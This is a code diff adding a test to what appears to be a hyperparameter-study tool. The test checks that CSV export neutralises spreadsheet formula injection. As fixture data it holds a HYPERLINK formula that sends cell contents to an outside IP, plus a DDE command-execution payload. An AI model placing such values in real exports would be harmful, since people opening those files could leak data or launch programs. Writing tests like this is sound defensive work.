@@ -257,3 +257,19 @@ def test_export_csv_tells_a_none_value_from_an_inactive_parameter(tmp_path: Path
     assert run_cli("export", "nones", "--storage", db, "--format", "csv") == 0
     rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
     assert [(r["params_k"], r["params_g"]) for r in rows] == [("None", ""), ("rbf", "0.5"), ("(1, 2)", ""), ("True", "")]
+
+
+def test_export_csv_writes_no_cell_a_spreadsheet_would_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Whoever writes the database chooses texts (a choice, an error, a worker name); a cell such as
+    =HYPERLINK(...) ran as a formula when the exported file was opened in a spreadsheet."""
+    db = f"sqlite:///{tmp_path / 'f.db'}"
+    formula = '=HYPERLINK("http://198.51.100.1/?"&A1,"x")'
+    study = ts.Study({"k": ts.Categorical([formula, "@SUM(1)", "plain"])}, storage=db, name="f")
+    for k in (formula, "@SUM(1)", "plain"):
+        study.add_trial({"k": k}, -1.0)
+    study.tell(study.ask(), state="failed", error="+cmd|' /C calc'!A0")
+    out = tmp_path / "t.csv"
+    assert run_cli("export", "f", "--storage", db, "-o", str(out)) == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert [r["params_k"] for r in rows[:3]] == ["'" + formula, "'@SUM(1)", "plain"]
+    assert rows[3]["error"] == "'+cmd|' /C calc'!A0" and [r["value"] for r in rows[:3]] == ["-1.0"] * 3  # numbers stay
